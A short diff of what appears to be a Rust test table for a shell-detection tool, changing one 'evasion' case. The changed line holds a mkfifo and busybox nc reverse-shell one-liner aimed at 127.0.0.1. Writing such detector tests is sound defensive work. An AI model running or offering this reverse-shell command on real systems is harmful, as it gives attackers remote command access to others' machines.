@@ -141,7 +141,7 @@ pub const CASES: &[Case] = &[
         })],
         evasions: &[
             act("the_other_way_round", |s| {
-                scripted(s, "/bin/sh", "mkfifo $1/p; busybox nc 127.0.0.1 $2 < $1/p | /bin/sh > $1/p 2>&1")
+                scripted(s, "/bin/sh", "mkfifo $1/p; busybox nc 127.0.0.1 $2 < $1/p | /bin/sh > $1/p 2>&1 || true")
             }),
             act("client_of_another_name", |s| {
                 let client = s.file("client.py");
